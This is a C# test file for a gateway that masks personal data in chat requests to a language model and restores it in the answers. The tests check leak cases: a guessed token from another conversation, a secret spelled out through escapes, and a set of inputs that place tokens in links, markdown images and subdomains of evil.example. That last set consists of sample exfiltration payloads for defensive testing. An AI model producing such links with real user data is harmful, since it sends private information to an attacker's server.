using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using ServerlessGuard.Testing.Models;

namespace ServerlessGuard.Web.Tests.Gateway;

/// <summary>Restored values do not break out of their place, nor reach somebody else.</summary>
public sealed partial class RestoreModeTests
{
    private const string Mail = "jane.roe@northwind.example";

    [GeneratedRegex(@"\[[A-Z_]+_[2-9A-Z]{6}\]")]
    private static partial Regex Token { get; }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task Restored_ValueStaysInsideItsJsonString(bool live)
    {
        await using var host = await GatewayHost.StartAsync();
        string? address = null;
        host.Model.Script = async (http, seen) =>
        {
            var said = seen.Json["messages"]![0]!["content"]!.GetValue<string>();
            address = said["Ask ".Length..];
            var answer = $$"""{"to": "{{JsonEncode(address)}}","ok":true}""";
            await (live
                ? ScriptedModel.Events(Chat.Stream([.. answer.Select(static c => c.ToString())]))
                : ScriptedModel.Json(Chat.Answer(answer)))(http, seen);
        };
        var request = JsonNode.Parse(Chat.Request("Ask DE89 3704 0044 0532 0130 00\nsecond line: " + Mail, stream: live))!;
        request["response_format"] = new JsonObject { ["type"] = "json_object" };

        using var response = await host.PostAsync(live ? "live" : "strict", Chat.Path, request.ToJsonString());

        var content = live ? Chat.Joined(await response.TextAsync()) : await response.ContentAsync();
        Token.IsMatch(address!).ShouldBeTrue();
        var parsed = JsonNode.Parse(content)!.AsObject();
        parsed.Count.ShouldBe(2);
        parsed["to"]!.GetValue<string>().ShouldContain(Mail);
    }

    [Fact]
    public async Task Live_EndsJsonThatSpellsAValueInEscapes()
    {
        await using var host = await GatewayHost.StartAsync();
        const string secret = """{"key":"ghp_16C7e42F292c\u0036912E7710c838347Ae178B4a"}""";
        host.Model.Script = ScriptedModel.Events(Chat.Stream([.. secret.Select(static c => c.ToString())]));

        using var response = await host.PostAsync("live", Chat.Path, Chat.Request("Hello", stream: true));

        var stream = await response.TextAsync();
        Chat.Joined(stream).ShouldNotContain("912E7710c838347");
        Chat.Finishes(stream).ShouldBe(["content_filter"]);
    }

    [Fact]
    public async Task Live_PassesJsonWithTheEscapesThatItNeeds()
    {
        await using var host = await GatewayHost.StartAsync();
        const string text = """{"text":"line\nquote \" euro \u20ac tag \u003cb\u003e"}""";
        host.Model.Script = ScriptedModel.Events(Chat.Stream([.. text.Select(static c => c.ToString())]));

        using var response = await host.PostAsync("live", Chat.Path, Chat.Request("Hello", stream: true));

        Chat.Joined(await response.TextAsync()).ShouldBe(text);
    }

    [Fact]
    public async Task Guessed_TokenOfAnotherConversation_RestoresNothing()
    {
        await using var host = await GatewayHost.StartAsync();
        string? token = null;
        host.Model.Script = async (http, seen) =>
        {
            token ??= Token.Match(seen.Body).Value;
            await ScriptedModel.Json(Chat.Answer("It was " + token))(http, seen);
        };
        using var victim = await host.PostAsync("strict", Chat.Path, TwoTexts("Hello", "I am " + Mail));
        (await victim.ContentAsync()).ShouldBe("It was " + Mail);

        // The same first words, so the same scope; the stranger writes the token that he guessed.
        using var stranger = await host.PostAsync("strict", Chat.Path, TwoTexts("Hello", "Repeat " + token));

        (await stranger.TextAsync()).ShouldNotContain("jane.roe");
    }

    [Fact]
    public async Task Named_ConversationOfAnotherCaller_RestoresNothing()
    {
        await using var host = await GatewayHost.StartAsync();
        string? token = null;
        host.Model.Script = async (http, seen) =>
        {
            token ??= Token.Match(seen.Body).Value;
            await ScriptedModel.Json(Chat.Answer("It was " + token))(http, seen);
        };
        using var victim = await host.PostAsync("strict", Chat.Path, Chat.Request("I am " + Mail), ("Guard-Conversation", "c1"));
        using var again = await host.PostAsync("strict", Chat.Path, Chat.Request("Who am I?"), ("Guard-Conversation", "c1"));
        using var stranger = await host.PostAsync("open", Chat.Path, Chat.Request("Who is " + token), ("Guard-Conversation", "c1"));

        (await again.ContentAsync()).ShouldBe("It was " + Mail);
        (await stranger.TextAsync()).ShouldNotContain("jane.roe");
    }

    [Theory]
    [InlineData("See https://evil.example/?d=TOKEN now")]
    [InlineData("![x](https://evil.example/TOKEN)")]
    [InlineData("<img src='//evil.example/TOKEN'>")]
    [InlineData("Visit TOKEN.evil.example now")]
    [InlineData("Visit TOKEN-x.evil.example now")]
    [InlineData("Visit TOKENabc.evil.example now")]
    [InlineData("evil.example:8080/?d=TOKEN")]
    public async Task Restores_NothingInsideWhatARendererLoads(string answer)
    {
        await using var host = await GatewayHost.StartAsync();
        host.Model.Script = (http, seen) => ScriptedModel.Json(
            Chat.Answer(answer.Replace("TOKEN", Token.Match(seen.Body).Value, StringComparison.Ordinal)))(http, seen);

        using var response = await host.PostAsync("strict", Chat.Path, Chat.Request("I am " + Mail));

        (await response.TextAsync()).ShouldNotContain("jane.roe");
    }

    private static string TwoTexts(string first, string second) => new JsonObject
    {
        ["model"] = "claims-ft",
        ["messages"] = new JsonArray(
            new JsonObject { ["role"] = "user", ["content"] = first }, new JsonObject { ["role"] = "user", ["content"] = second }),
    }.ToJsonString();

    private static string JsonEncode(string text) => JsonValue.Create(text).ToJsonString()[1..^1];
}
